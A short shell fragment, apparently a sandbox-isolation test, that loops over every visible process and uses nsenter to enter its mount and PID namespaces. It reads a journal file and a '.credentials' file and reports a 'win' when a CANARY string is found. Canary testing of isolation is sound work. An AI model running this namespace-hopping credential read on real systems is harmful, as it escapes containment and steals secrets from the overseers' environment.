# Joins the namespaces of every process that it can see.
for process in /proc/[0-9]*; do
  nsenter -t "${process#/proc/}" -m -p cat "$RT/ralph/journal.jsonl" "$RUNNER/.credentials" 2>/dev/null | grep CANARY && won "joined $process" && break
done
